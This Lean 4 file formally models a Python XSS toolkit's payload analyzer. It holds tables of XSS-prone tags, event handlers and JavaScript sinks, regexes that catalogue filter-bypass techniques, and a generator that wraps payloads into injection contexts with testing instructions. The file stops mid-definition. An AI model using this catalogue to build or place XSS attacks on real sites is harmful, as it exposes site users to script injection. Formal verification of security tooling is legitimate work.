import Mathlib

/-!
Verification of the XSS Mastery Toolkit's analysis pipeline: the payload
analyzer (`core/payload_analyzer.py`), the advanced polyglot engine
(`polyglot/advanced_engine.py`), the CSP bypass analyzer
(`csp/bypass_analyzer.py`) and the context-aware fuzzer
(`fuzzing/context_fuzzer.py`).

Python strings are embedded as `List Char` (`Str`); Python floats carry only
small decimal constants here and are embedded as exact rationals (`ℚ`);
Python ints are `Nat` where the source only ever holds non-negative counts.
Randomness (`random.random`, `random.choice`, `random.sample`) is embedded as
an explicit oracle: a supply `List Nat` consumed left to right, so that
theorems quantify over every possible outcome of the random choices.
Exceptions are embedded with `Except`.
-/

abbrev Str := List Char

namespace Py

/-- ASCII whitespace, as recognised by Python's `str.isspace`/`str.strip`
for the characters that occur in this code base. -/
def isSpaceChar (c : Char) : Bool :=
  c ∈ ([' ', '\t', '\n', '\r', '\x0b', '\x0c'] : List Char)

/-- Python `str.lower` (the toolkit only lowercases ASCII payload text). -/
def lower (s : Str) : Str := s.map Char.toLower

/-- Python `str.strip()` with no argument: trim whitespace on both ends. -/
def strip (s : Str) : Str :=
  ((s.dropWhile isSpaceChar).reverse.dropWhile isSpaceChar).reverse

/-- Python `str.split()` with no argument: split on whitespace runs,
dropping empty fragments. -/
def splitWs (s : Str) : List Str :=
  (s.splitOnP isSpaceChar).filter (fun w => !w.isEmpty)

/-- Python `str.replace(old, new)` for a non-empty `old`: leftmost,
non-overlapping replacement of every occurrence.  Structured over a fuel
argument (every step consumes at least one input character, so
`s.length` fuel is enough) to keep the definition kernel-reducible. -/
def replaceAllAux (old new : Str) : Nat → Str → Str
  | 0, s => s
  | fuel + 1, s =>
    if old ≠ [] ∧ old.isPrefixOf s then
      new ++ replaceAllAux old new fuel (s.drop old.length)
    else
      match s with
      | [] => []
      | c :: t => c :: replaceAllAux old new fuel t

def replaceAll (old new : Str) (s : Str) : Str := replaceAllAux old new s.length s

/-- Python's substring test `sub in s`. -/
def containsSub (s sub : Str) : Bool :=
  (List.range (s.length + 1)).any (fun i => sub.isPrefixOf (s.drop i))

/-- All indices at which `marker` occurs in `s` (in increasing order):
the embedding of `_find_marker_positions`, whose `str.find` loop restarts
one past each hit and therefore reports overlapping occurrences too. -/
def findPositions (marker s : Str) : List Nat :=
  (List.range (s.length + 1)).filter (fun i => marker.isPrefixOf (s.drop i))

/-- Decimal rendering of a natural, as Python `str(n)` / f-strings. -/
def natStr (n : Nat) : Str := (Nat.repr n).data

def hexDigitLower (n : Nat) : Char := ("0123456789abcdef".data).getD n '0'

def hexDigitUpper (n : Nat) : Char := ("0123456789ABCDEF".data).getD n '0'

/-- `f"\x7bn:02x\x7d"`: two lowercase hex digits. -/
def hex2 (n : Nat) : Str := [hexDigitLower (n / 16 % 16), hexDigitLower (n % 16)]

/-- `f"\x7bn:04x\x7d"`: four lowercase hex digits. -/
def hex4 (n : Nat) : Str :=
  [hexDigitLower (n / 4096 % 16), hexDigitLower (n / 256 % 16),
   hexDigitLower (n / 16 % 16), hexDigitLower (n % 16)]

def concatMapStr (f : Char → Str) (s : Str) : Str :=
  (s.map f).foldr (· ++ ·) []

/-- `urllib.parse.quote(s, safe=safe)` on the ASCII range: unreserved
characters (alphanumerics and `_.-~`) and the `safe` set pass through,
everything else becomes `%XX` with uppercase hex digits. -/
def urlQuote (safe : List Char) (s : Str) : Str :=
  concatMapStr (fun c =>
    if c.isAlphanum || c ∈ (['_', '.', '-', '~'] : List Char) || c ∈ safe then [c]
    else '%' :: [hexDigitUpper (c.toNat / 16 % 16), hexDigitUpper (c.toNat % 16)]) s

def hexVal (c : Char) : Option Nat :=
  if '0' ≤ c ∧ c ≤ '9' then some (c.toNat - '0'.toNat)
  else if 'a' ≤ c ∧ c ≤ 'f' then some (c.toNat - 'a'.toNat + 10)
  else if 'A' ≤ c ∧ c ≤ 'F' then some (c.toNat - 'A'.toNat + 10)
  else none

/-- `urllib.parse.unquote`: decode `%XX` sequences, leaving malformed
percent signs untouched. -/
def urlUnquote : Str → Str
  | [] => []
  | '%' :: h₁ :: h₂ :: t =>
    match hexVal h₁, hexVal h₂ with
    | some v₁, some v₂ => Char.ofNat (v₁ * 16 + v₂) :: urlUnquote t
    | _, _ => '%' :: urlUnquote (h₁ :: h₂ :: t)
  | c :: t => c :: urlUnquote t

/-- `html.escape(s)` (with the default `quote=True`): `&` is replaced first,
then `<`, `>`, `"` and `'`. -/
def htmlEscape (s : Str) : Str :=
  replaceAll ("'".data) ("&#x27;".data)
    (replaceAll ("\"".data) ("&quot;".data)
      (replaceAll (">".data) ("&gt;".data)
        (replaceAll ("<".data) ("&lt;".data)
          (replaceAll ("&".data) ("&amp;".data) s))))

/-- One entity at the head of the text after a `&`: returns the decoded
character and how many input characters the entity body consumed.
This models Python's `html.unescape` on the entities that actually occur in
the toolkit's encoder output (the five named entities it emits plus
decimal/hex numeric references). -/
def matchEntity (t : Str) : Option (Char × Nat) :=
  if ("amp;".data).isPrefixOf t then some ('&', 4)
  else if ("lt;".data).isPrefixOf t then some ('<', 3)
  else if ("gt;".data).isPrefixOf t then some ('>', 3)
  else if ("quot;".data).isPrefixOf t then some ('"', 5)
  else if ("#x27;".data).isPrefixOf t then some ('\'', 5)
  else
    match t with
    | '#' :: rest =>
      let ds := rest.takeWhile Char.isDigit
      if ds ≠ [] ∧ rest.getD ds.length ' ' = ';' then
        some (Char.ofNat (ds.foldl (fun a c => a * 10 + (c.toNat - '0'.toNat)) 0),
              ds.length + 2)
      else none
    | _ => none

/-- `html.unescape` (one non-recursive pass, as in the standard library),
restricted to the entities of `matchEntity`; fuel-structured for kernel
reducibility. -/
def htmlUnescapeAux : Nat → Str → Str
  | 0, s => s
  | _, [] => []
  | fuel + 1, c :: t =>
    if c = '&' then
      match matchEntity t with
      | some (ch, k) => ch :: htmlUnescapeAux fuel (t.drop k)
      | none => c :: htmlUnescapeAux fuel t
    else c :: htmlUnescapeAux fuel t

def htmlUnescape (s : Str) : Str := htmlUnescapeAux s.length s

def b64Alphabet : Str :=
  "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".data

/-- `base64.b64encode(s.encode()).decode()` on ASCII text: each input
character is one byte (`ord`), packed into 6-bit groups with `=` padding. -/
def b64encode : Str → Str
  | a :: b :: c :: t =>
    let n := a.toNat * 65536 + b.toNat * 256 + c.toNat
    [b64Alphabet.getD (n / 262144 % 64) 'A', b64Alphabet.getD (n / 4096 % 64) 'A',
     b64Alphabet.getD (n / 64 % 64) 'A', b64Alphabet.getD (n % 64) 'A'] ++ b64encode t
  | [a, b] =>
    let n := a.toNat * 65536 + b.toNat * 256
    [b64Alphabet.getD (n / 262144 % 64) 'A', b64Alphabet.getD (n / 4096 % 64) 'A',
     b64Alphabet.getD (n / 64 % 64) 'A', '=']
  | [a] =>
    let n := a.toNat * 65536
    [b64Alphabet.getD (n / 262144 % 64) 'A', b64Alphabet.getD (n / 4096 % 64) 'A',
     '=', '=']
  | [] => []

/-- `string.printable`: digits, letters, punctuation and whitespace. -/
def printableChars : Str :=
  ("0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ!\"#$%&'()*+,-./:;<=>?@[\\]^_`\x7b|\x7d~ \t\n\r\x0b\x0c").data

/-- The random oracle: a supply of naturals, head consumed first, defaulting
to 0 when exhausted. Quantifying over the supply quantifies over every
possible outcome of the Python `random` calls. -/
def next : List Nat → Nat × List Nat
  | [] => (0, [])
  | n :: r => (n, r)

/-- Outcome of one boolean draw such as `random.random() > 0.7`. -/
def nextCoin (r : List Nat) : Bool × List Nat :=
  let (n, r') := next r
  (n % 2 = 1, r')

/-- `random.choice(l)` for a non-empty list: an arbitrary element,
selected by the oracle. -/
def nextChoice (l : List Str) (r : List Nat) : Str × List Nat :=
  let (n, r') := next r
  (l.getD (n % l.length) [], r')

def nextChoiceChar (l : List Char) (r : List Nat) : Char × List Nat :=
  let (n, r') := next r
  (l.getD (n % l.length) ' ', r')

end Py

/-!
A small backtracking regular-expression engine covering exactly the
constructs used by the toolkit's pattern tables: single-character classes,
literals, greedy and lazy repetition of a class, capturing groups,
concatenation, alternation and end-of-input.  `reSearch` mirrors
`re.search`: it tries each start position from the left, and within one
position explores alternatives left first, greedy repetitions longest
first and lazy repetitions shortest first, returning the captures of the
first full match.
-/

namespace Re

inductive RE where
  | cls (p : Char → Bool)
  | lit (s : Str)
  | starG (p : Char → Bool)
  | starL (p : Char → Bool)
  | plusG (p : Char → Bool)
  | grp (n : Nat) (r : RE)
  | cat (r₁ r₂ : RE)
  | alt (r₁ r₂ : RE)
  | eos
  | eps

abbrev Caps := List (Nat × Str)

def firstSome (f : Nat → Option Caps) : List Nat → Option Caps
  | [] => none
  | n :: ns => (f n).orElse (fun _ => firstSome f ns)

/-- Match `r` against a prefix of `s`, calling the continuation `k` on the
rest of the input and the captures accumulated so far; the first success in
backtracking order wins. -/
def matchRe : RE → Str → Caps → (Str → Caps → Option Caps) → Option Caps
  | .cls p, s, caps, k =>
    match s with
    | [] => none
    | c :: t => if p c then k t caps else none
  | .lit l, s, caps, k =>
    if l.isPrefixOf s then k (s.drop l.length) caps else none
  | .starG p, s, caps, k =>
    let run := (s.takeWhile p).length
    firstSome (fun i => k (s.drop i) caps) ((List.range (run + 1)).reverse)
  | .starL p, s, caps, k =>
    let run := (s.takeWhile p).length
    firstSome (fun i => k (s.drop i) caps) (List.range (run + 1))
  | .plusG p, s, caps, k =>
    let run := (s.takeWhile p).length
    firstSome (fun i => k (s.drop i) caps) ((List.range' 1 run).reverse)
  | .grp n r, s, caps, k =>
    matchRe r s caps (fun s' caps' => k s' ((n, s.take (s.length - s'.length)) :: caps'))
  | .cat r₁ r₂, s, caps, k =>
    matchRe r₁ s caps (fun s₁ c₁ => matchRe r₂ s₁ c₁ k)
  | .alt r₁ r₂, s, caps, k =>
    (matchRe r₁ s caps k).orElse (fun _ => matchRe r₂ s caps k)
  | .eos, s, caps, k =>
    if s.isEmpty then k s caps else none
  | .eps, s, caps, k => k s caps

/-- Try a full match of `r` at each start position of `s`, leftmost first. -/
def searchFrom (r : RE) : Str → Option Caps
  | [] => matchRe r [] [] (fun _ caps => some caps)
  | c :: t =>
    (matchRe r (c :: t) [] (fun _ caps => some caps)).orElse (fun _ => searchFrom r t)

/-- `re.search(r, s)`: `some` captures on a hit, `none` otherwise. -/
def reSearch (r : RE) (s : Str) : Option Caps := searchFrom r s

def reTest (r : RE) (s : Str) : Bool := (reSearch r s).isSome

/-- `match.group(n)` (empty when the group is absent). -/
def capGet (caps : Caps) (n : Nat) : Str :=
  ((caps.find? (fun pr => pr.1 = n)).map (fun pr => pr.2)).getD []

def seqAll : List RE → RE
  | [] => .eps
  | [r] => r
  | r :: rs => .cat r (seqAll rs)

def wChar (c : Char) : Bool := c.isAlphanum || c = '_'

def dChar (c : Char) : Bool := c.isDigit

def hChar (c : Char) : Bool :=
  c.isDigit || ('a' ≤ c && c ≤ 'f') || ('A' ≤ c && c ≤ 'F')

def anyChar (_ : Char) : Bool := true

/-- `\x7bn\x7d`-fold repetition of a class. -/
def repN (n : Nat) (p : Char → Bool) : RE := seqAll (List.replicate n (.cls p))

end Re

/-!
Embedding of `core/payload_analyzer.py`.  The analyzer's pattern tables are
Python dicts/sets written as literals; they are embedded as lists in source
order.  `re.search(pat, s, re.IGNORECASE | re.DOTALL)` is embedded by
matching the lowercased pattern against the lowercased payload, with `.`
matching every character.
-/

namespace Analyzer

inductive XSSType where
  | REFLECTED | STORED | DOM_BASED | UNIVERSAL
deriving DecidableEq, Repr

def XSSType.val : XSSType → Str
  | .REFLECTED => ("reflected".data)
  | .STORED => ("stored".data)
  | .DOM_BASED => ("dom_based".data)
  | .UNIVERSAL => ("universal".data)

inductive Context where
  | HTML_CONTENT | ATTRIBUTE_VALUE | JAVASCRIPT_STRING | JAVASCRIPT_VARIABLE
  | CSS_VALUE | URL_PARAMETER | HTML_COMMENT | UNKNOWN
deriving DecidableEq, Repr

def Context.val : Context → Str
  | .HTML_CONTENT => ("html_content".data)
  | .ATTRIBUTE_VALUE => ("attribute_value".data)
  | .JAVASCRIPT_STRING => ("js_string".data)
  | .JAVASCRIPT_VARIABLE => ("js_variable".data)
  | .CSS_VALUE => ("css_value".data)
  | .URL_PARAMETER => ("url_parameter".data)
  | .HTML_COMMENT => ("html_comment".data)
  | .UNKNOWN => ("unknown".data)

/-- A value in a Python `Dict[str, any]` metadata bag. -/
inductive PyVal where
  | nat (n : Nat)
  | bool (b : Bool)
  | str (s : Str)
  | chars (l : List Char)
deriving DecidableEq, Repr

structure PayloadAnalysis where
  payload : Str
  contexts : List Context
  xss_types : List XSSType
  bypass_techniques : List Str
  risk_level : Str
  explanation : Str
  proof_of_concept : Str
  confidence_score : ℚ
  metadata : List (Str × PyVal)
deriving DecidableEq, Repr

def scriptTags : List Str :=
  [("script".data), ("img".data), ("svg".data), ("iframe".data), ("object".data),
   ("embed".data), ("video".data), ("audio".data), ("source".data), ("track".data),
   ("input".data), ("body".data), ("html".data), ("meta".data), ("link".data),
   ("style".data), ("form".data), ("details".data), ("math".data),
   ("template".data), ("canvas".data), ("marquee".data)]

def eventHandlers : List Str :=
  [("onload".data), ("onerror".data), ("onclick".data), ("onmouseover".data),
   ("onfocus".data), ("onblur".data), ("onsubmit".data), ("onchange".data),
   ("onkeyup".data), ("onkeydown".data), ("onmousedown".data), ("onmouseup".data),
   ("ondblclick".data), ("oncontextmenu".data), ("onwheel".data), ("ondrag".data),
   ("ondrop".data), ("onanimationend".data), ("ontransitionend".data),
   ("ontoggle".data), ("onplay".data), ("onpause".data), ("onended".data),
   ("oncanplay".data), ("onloadstart".data), ("onprogress".data),
   ("onseeking".data), ("onseeked".data)]

/-- `dangerous_js`, verbatim: the mixed-case names are tested against the
lowercased payload by `_calculate_risk_and_confidence`, so only the
all-lowercase entries can ever match — embedded as written. -/
def dangerousJs : List Str :=
  [("eval".data), ("Function".data), ("setTimeout".data), ("setInterval".data),
   ("execScript".data), ("document.write".data), ("document.writeln".data),
   ("innerHTML".data), ("outerHTML".data), ("insertAdjacentHTML".data),
   ("location.href".data), ("location.assign".data), ("location.replace".data),
   ("window.open".data), ("execCommand".data)]

def html5Vectors : List (Str × List Str) :=
  [(("svg".data), [("onload".data), ("onerror".data), ("onclick".data)]),
   (("details".data), [("ontoggle".data)]),
   (("video".data), [("onplay".data), ("onended".data), ("onerror".data)]),
   (("audio".data), [("onplay".data), ("onended".data), ("onerror".data)]),
   (("canvas".data), [("onclick".data), ("onmouseover".data)]),
   (("template".data), [("innerhtml content".data)]),
   (("math".data), [("href attributes".data)])]

def qChar (c : Char) : Bool := c = '\'' || c = '"'

/-- The 16 `bypass_patterns` regexes, in dict order, lowercased for the
`re.IGNORECASE` matching of `_identify_bypass_techniques`. -/
def bypassPatterns : List (Str × Re.RE) :=
  [(("case_variation".data),
    .alt (.lit ("script".data)) (.lit ("onload".data))),
   (("encoded_chars".data),
    .alt (Re.seqAll [.lit ("&#".data), .plusG Re.dChar, .lit (";".data)])
      (.alt (Re.seqAll [.lit ("&#x".data), .plusG Re.hChar, .lit (";".data)])
        (Re.seqAll [.lit ("%".data), Re.repN 2 Re.hChar]))),
   (("unicode_encoding".data),
    .alt (Re.seqAll [.lit ("\\u".data), Re.repN 4 Re.hChar])
      (Re.seqAll [.lit ("\\x".data), Re.repN 2 Re.hChar])),
   (("mixed_quotes".data),
    Re.seqAll [.plusG qChar, .starG Re.anyChar, .plusG qChar]),
   (("comment_breaking".data),
    .alt (Re.seqAll [.lit ("/*".data), .starL Re.anyChar, .lit ("*/".data)])
      (Re.seqAll [.lit ("<!--".data), .starL Re.anyChar, .lit ("-->".data)])),
   (("whitespace_abuse".data), .plusG Py.isSpaceChar),
   (("protocol_confusion".data),
    .alt (.lit ("javascript:".data))
      (.alt (.lit ("data:".data)) (.alt (.lit ("vbscript:".data)) (.lit ("about:".data))))),
   (("attribute_breaking".data),
    Re.seqAll [.plusG Re.wChar, .starG Py.isSpaceChar, .lit ("=".data),
               .starG Py.isSpaceChar, .plusG (fun c => !(Py.isSpaceChar c) && c ≠ '>')]),
   (("tag_breaking".data),
    Re.seqAll [.lit ("</".data), .plusG Re.wChar, .lit (">".data),
               .starG Re.anyChar, .lit ("<".data), .plusG Re.wChar]),
   (("double_encoding".data),
    Re.seqAll [.lit ("%25".data), Re.repN 2 Re.hChar]),
   (("null_byte".data),
    .alt (.lit ("%00".data)) (.cls (fun c => c = '\x00'))),
   (("newline_injection".data),
    .alt (Re.seqAll [.lit ("%0".data), .cls (fun c => c = 'a' || c = 'd')])
      (.alt (.cls (fun c => c = '\n')) (.cls (fun c => c = '\r')))),
   (("filter_evasion".data),
    .alt (.lit ("script".data))
      (.alt (.lit ("alert".data)) (.alt (.lit ("prompt".data)) (.lit ("confirm".data))))),
   (("obfuscation".data),
    .alt (.lit ("string.fromcharcode".data))
      (.alt (Re.seqAll [.lit ("eval".data), .starG Py.isSpaceChar, .lit ("(".data)])
        (Re.seqAll [.lit ("atob".data), .starG Py.isSpaceChar, .lit ("(".data)]))),
   (("template_literals".data),
    Re.seqAll [.lit ("\x60".data), .starG (fun c => c ≠ '\x60'), .lit ("\x60".data)]),
   (("bracket_notation".data),
    Re.seqAll [.lit ("[".data), .cls qChar, .plusG Re.wChar, .cls qChar, .lit ("]".data)])]

/-- `\w+\s*=` used by the JavaScript-variable context check
(`re.search` without flags, on the original payload). -/
def jsVarRe : Re.RE :=
  Re.seqAll [.plusG Re.wChar, .starG Py.isSpaceChar, .lit ("=".data)]

/-- `_detect_contexts`. -/
def detectContexts (payload : Str) : List Context :=
  let pl := Py.lower payload
  let cs : List Context :=
    (if scriptTags.any (fun tag => Py.containsSub pl ('<' :: tag)) then [.HTML_CONTENT] else [])
    ++ (if eventHandlers.any (fun h => Py.containsSub pl h) then [.ATTRIBUTE_VALUE] else [])
    ++ (if (['"', '\'', '\\', '\n', '\r'] : List Char).any (fun c => payload.contains c) then
          [.JAVASCRIPT_STRING] else [])
    ++ (if Re.reTest jsVarRe payload then [.JAVASCRIPT_VARIABLE] else [])
    ++ (if [("expression(".data), ("url(".data), ("import".data), ("@".data)].any
            (fun t => Py.containsSub pl t) then [.CSS_VALUE] else [])
    ++ (if [("javascript:".data), ("data:".data), ("vbscript:".data), ("about:".data)].any
            (fun t => Py.containsSub pl t) then [.URL_PARAMETER] else [])
    ++ (if [("-->".data), ("<!--".data), ("*/".data)].any
            (fun t => Py.containsSub payload t) then [.HTML_COMMENT] else [])
  if cs.isEmpty then [.UNKNOWN] else cs

/-- `_determine_xss_types`. -/
def determineXssTypes (payload : Str) : List XSSType :=
  let pl := Py.lower payload
  let ts : List XSSType :=
    (if Py.containsSub pl ("<script>".data)
        || eventHandlers.any (fun h => Py.containsSub pl h)
        || Py.containsSub pl ("javascript:".data) then [.REFLECTED] else [])
    ++ (if payload.length < 100
          && !((['<', '>', '"', '\''] : List Char).any (fun c => payload.contains c))
          && [("alert".data), ("eval".data), ("script".data)].any (fun t => Py.containsSub pl t)
        then [.STORED] else [])
    ++ (if [("document.".data), ("window.".data), ("location.".data), ("eval(".data),
            ("innerhtml".data), ("outerhtml".data), ("document.write".data),
            ("location.href".data)].any (fun t => Py.containsSub pl t)
        then [.DOM_BASED] else [])
    ++ (if (Py.containsSub pl ("<img".data) && Py.containsSub pl ("onerror=".data))
          || (Py.containsSub pl ("svg".data) && Py.containsSub pl ("onload=".data))
          || Py.containsSub pl ("javascript:".data) then [.UNIVERSAL] else [])
  if ts.isEmpty then [.REFLECTED] else ts

/-- `_identify_bypass_techniques`: regex table hits in dict order, then the
two heuristic checks. -/
def identifyBypassTechniques (payload : Str) : List Str :=
  let pl := Py.lower payload
  let t0 := (bypassPatterns.filter (fun pr => Re.reTest pr.2 pl)).map (fun pr => pr.1)
  let t1 := if ((payload.filter Char.isAlpha).map Char.toLower).dedup.length > payload.length / 3
            then t0 ++ [("mixed_case_evasion".data)] else t0
  if payload.count '"' ≠ payload.count '\'' then t1 ++ [("quote_imbalance".data)] else t1

def highRiskContexts : List Context :=
  [.HTML_CONTENT, .JAVASCRIPT_STRING, .ATTRIBUTE_VALUE, .URL_PARAMETER]

/-- `_calculate_risk_and_confidence`, translated line by line: the risk
score accumulates the documented bonuses, the level is the threshold
if-chain, and the confidence is clamped to `[0.1, 1.0]`. -/
def calcRiskAndConfidence (payload : Str) (contexts : List Context)
    (techniques : List Str) : Str × ℚ :=
  let pl := Py.lower payload
  let score : Nat :=
    (if payload.length > 200 then 2 else if payload.length > 100 then 1 else 0)
    + (contexts.filter (fun c => c ∈ highRiskContexts)).length * 2
    + techniques.length
    + (if Py.containsSub pl ("<script>".data) then 4 else 0)
    + (if dangerousJs.any (fun f => Py.containsSub pl f) then 3 else 0)
    + (html5Vectors.filter (fun pr =>
         Py.containsSub pl pr.1 && pr.2.any (fun e => Py.containsSub pl e))).length * 2
  let confidence : ℚ :=
    1/2
    + (if payload.length > 200 then (1 : ℚ)/10 else 0)
    + ((contexts.filter (fun c => c ∈ highRiskContexts)).length : ℚ) * (1/10)
    + (techniques.length : ℚ) * (1/20)
    + (if Py.containsSub pl ("<script>".data) then (3 : ℚ)/10 else 0)
    + (if dangerousJs.any (fun f => Py.containsSub pl f) then (2 : ℚ)/10 else 0)
    + ((html5Vectors.filter (fun pr =>
         Py.containsSub pl pr.1 && pr.2.any (fun e => Py.containsSub pl e))).length : ℚ)
      * (15/100)
  let level : Str :=
    if score ≥ 8 then ("critical".data)
    else if score ≥ 6 then ("high".data)
    else if score ≥ 3 then ("medium".data)
    else ("low".data)
  (level, min 1 (max (1/10) confidence))

/-- The accumulated numeric risk score, stated on its own (same signals as
`calcRiskAndConfidence`). -/
def riskScore (payload : Str) (contexts : List Context) (techniques : List Str) : Nat :=
  let pl := Py.lower payload
  (if payload.length > 200 then 2 else if payload.length > 100 then 1 else 0)
  + (contexts.filter (fun c => c ∈ highRiskContexts)).length * 2
  + techniques.length
  + (if Py.containsSub pl ("<script>".data) then 4 else 0)
  + (if dangerousJs.any (fun f => Py.containsSub pl f) then 3 else 0)
  + (html5Vectors.filter (fun pr =>
       Py.containsSub pl pr.1 && pr.2.any (fun e => Py.containsSub pl e))).length * 2

/-- The spec's fixed threshold table: critical at 8, high at 6, medium at
3, else low. -/
def riskLevelOfScore (s : Nat) : Str :=
  if s ≥ 8 then ("critical".data)
  else if s ≥ 6 then ("high".data)
  else if s ≥ 3 then ("medium".data)
  else ("low".data)

/-- Severity order of the four risk labels. -/
def levelRank (l : Str) : Nat :=
  if l = ("critical".data) then 3
  else if l = ("high".data) then 2
  else if l = ("medium".data) then 1
  else 0

/-- The bounded `urllib.parse.unquote` loop of `_normalize_payload`
(up to three passes, stopping at a fixed point). -/
def unquoteLoop : Nat → Str → Str
  | 0, s => s
  | n + 1, s =>
    let s' := Py.urlUnquote s
    if s' = s then s else unquoteLoop n s'

/-- Python's `unicode_escape` decoding restricted to the escape forms the
toolkit can produce (`\uXXXX`, `\xXX` and the single-character escapes);
unrecognised backslash sequences are kept verbatim. -/
def unicodeUnescape : Str → Str
  | [] => []
  | '\\' :: 'u' :: a :: b :: c :: d :: r =>
    (match Py.hexVal a, Py.hexVal b, Py.hexVal c, Py.hexVal d with
     | some va, some vb, some vc, some vd =>
       [Char.ofNat (va * 4096 + vb * 256 + vc * 16 + vd)]
     | _, _, _, _ => ['\\', 'u', a, b, c, d]) ++ unicodeUnescape r
  | '\\' :: 'x' :: a :: b :: r =>
    (match Py.hexVal a, Py.hexVal b with
     | some va, some vb => [Char.ofNat (va * 16 + vb)]
     | _, _ => ['\\', 'x', a, b]) ++ unicodeUnescape r
  | '\\' :: 'n' :: r => '\n' :: unicodeUnescape r
  | '\\' :: 'r' :: r => '\r' :: unicodeUnescape r
  | '\\' :: 't' :: r => '\t' :: unicodeUnescape r
  | '\\' :: '\\' :: r => '\\' :: unicodeUnescape r
  | '\\' :: '\'' :: r => '\'' :: unicodeUnescape r
  | '\\' :: '"' :: r => '"' :: unicodeUnescape r
  | '\\' :: '0' :: r => '\x00' :: unicodeUnescape r
  | c :: t => c :: unicodeUnescape t

/-- `_normalize_payload`: HTML-decode, URL-decode up to three times,
unicode-escape-decode, lowercase. -/
def normalizePayload (payload : Str) : Str :=
  Py.lower (unicodeUnescape (unquoteLoop 3 (Py.htmlUnescape payload)))

/-- `_generate_explanation`. -/
def generateExplanation (payload : Str) (contexts : List Context)
    (xssTypes : List XSSType) (techniques : List Str) : Str :=
  let pl := Py.lower payload
  let base := ("This payload attempts XSS exploitation through: ".data)
  let ctxPart :=
    if contexts ≠ [] ∧ contexts ≠ [Context.UNKNOWN] then
      ("injection into ".data)
      ++ (List.intercalate (", ".data)
            (contexts.map (fun c => Py.replaceAll ("_".data) (" ".data) c.val)))
      ++ (" context(s)".data)
    else ("unknown injection context".data)
  let techPart :=
    if techniques ≠ [] then
      (", using bypass techniques: ".data) ++ List.intercalate (", ".data) techniques
    else []
  let typePart :=
    if xssTypes ≠ [] then
      (". Likely to succeed as ".data)
      ++ (List.intercalate (", ".data)
            (xssTypes.map (fun t => Py.replaceAll ("_".data) (" ".data) t.val)))
      ++ (" XSS.".data)
    else []
  let vectorPart :=
    if Py.containsSub pl ("<script>".data) then
      (" Uses direct script tag injection.".data)
    else if [("onerror".data), ("onload".data), ("onclick".data)].any
              (fun h => Py.containsSub pl h) then
      (" Uses event handler injection.".data)
    else if Py.containsSub pl ("javascript:".data) then
      (" Uses JavaScript protocol injection.".data)
    else []
  base ++ ctxPart ++ techPart ++ typePart ++ vectorPart

/-- `_generate_proof_of_concept`. -/
def generateProofOfConcept (payload : Str) (contexts : List Context) : Str :=
  let line := fun (c : Context) =>
    match c with
    | .HTML_CONTENT =>
      ("HTML Context: <div>".data) ++ payload ++ ("</div>\n".data)
    | .ATTRIBUTE_VALUE =>
      ("Attribute Context: <input value=\"".data) ++ payload ++ ("\">\n".data)
    | .JAVASCRIPT_STRING =>
      ("JavaScript Context: var x = \"".data) ++ payload ++ ("\";\n".data)
    | .URL_PARAMETER =>
      ("URL Context: https://example.com/page?param=".data)
      ++ Py.urlQuote ['/'] payload ++ ("\n".data)
    | .CSS_VALUE =>
      ("CSS Context: <div style=\"color:".data) ++ payload ++ ("\">test</div>\n".data)
    | .HTML_COMMENT =>
      ("Comment Context: <!-- ".data) ++ payload ++ (" -->\n".data)
    | _ => []
  ("Proof of Concept:\n\n".data)
  ++ (contexts.map line).flatten
  ++ ("\nDirect test: ".data) ++ payload ++ ("\n".data)
  ++ ("\nTesting Instructions:\n".data)
  ++ ("1. Inject the payload into the identified context(s)\n".data)
  ++ ("2. Observe if JavaScript executes (alert boxes, console messages)\n".data)
  ++ ("3. Check browser developer tools for errors or execution\n".data)

/-- `_collect_metadata`. -/
def collectMetadata (payload normalized : Str) (contexts : List Context) :
    List (Str × PyVal) :=
  let pl := Py.lower payload
  let specials : List Char := ("<>\"'&%;=()[]\x7b\x7d".data)
  let family : Str :=
    if Py.containsSub pl ("alert(".data) then ("alert_based".data)
    else if Py.containsSub pl ("eval(".data) then ("eval_based".data)
    else if Py.containsSub pl ("document.write".data) then ("document_write".data)
    else if [("<img".data), ("<svg".data), ("<iframe".data)].any
              (fun t => Py.containsSub pl t) then ("tag_based".data)
    else ("unknown".data)
  [(("original_length".data), .nat payload.length),
   (("normalized_length".data), .nat normalized.length),
   (("encoding_detected".data), .bool (payload ≠ normalized)),
   (("character_diversity".data), .nat pl.dedup.length),
   (("contains_script_tag".data), .bool (Py.containsSub pl ("<script".data))),
   (("contains_event_handler".data),
      .bool (eventHandlers.any (fun h => Py.containsSub pl h))),
   (("contains_javascript_protocol".data),
      .bool (Py.containsSub pl ("javascript:".data))),
   (("context_count".data), .nat contexts.length),
   (("special_characters".data), .chars (payload.filter (fun c => c ∈ specials))),
   (("word_count".data), .nat (Py.splitWs payload).length),
   (("payload_family".data), .str family)]

/-- The `except` branch of `analyze_payload`: the degraded analysis built
when any internal step raises `e`. -/
def degradedAnalysis (payload : Str) (e : Str) : PayloadAnalysis :=
  { payload := payload
    contexts := [Context.UNKNOWN]
    xss_types := [XSSType.REFLECTED]
    bypass_techniques := []
    risk_level := ("low".data)
    explanation := ("Analysis failed: ".data) ++ e
    proof_of_concept := ("Unable to generate PoC".data)
    confidence_score := 0
    metadata := [(("error".data), .str e)] }

/-- The `try` block of `analyze_payload`: every step of the embedding is a
total function, so the attempt is built with `Except` only to mirror the
exception boundary of the source. -/
def analyzeAttempt (payload : Str) : Except Str PayloadAnalysis := do
  let normalized := normalizePayload payload
  let contexts := detectContexts payload
  let xssTypes := determineXssTypes payload
  let techniques := identifyBypassTechniques payload
  let (riskLevel, confidence) := calcRiskAndConfidence payload contexts techniques
  let explanation := generateExplanation payload contexts xssTypes techniques
  let poc := generateProofOfConcept payload contexts
  let metadata := collectMetadata payload normalized contexts
  pure
    { payload := payload
      contexts := contexts
      xss_types := xssTypes
      bypass_techniques := techniques
      risk_level := riskLevel
      explanation := explanation
      proof_of_concept := poc
      confidence_score := confidence
      metadata := metadata }

/-- `analyze_payload`: the attempt, with any exception converted into the
degraded analysis. -/
def analyzePayload (payload : Str) : PayloadAnalysis :=
  match analyzeAttempt payload with
  | .ok a => a
  | .error e => degradedAnalysis payload e

end Analyzer

namespace Py

/-- `re.sub(re.escape(kw), new, s, flags=re.IGNORECASE)` for a plain
keyword `kw`: case-insensitive leftmost non-overlapping replacement
(fuel-structured like `replaceAll`). -/
def ciReplaceAllAux (old new : Str) : Nat → Str → Str
  | 0, s => s
  | fuel + 1, s =>
    if old ≠ [] ∧ (lower old).isPrefixOf (lower s) then
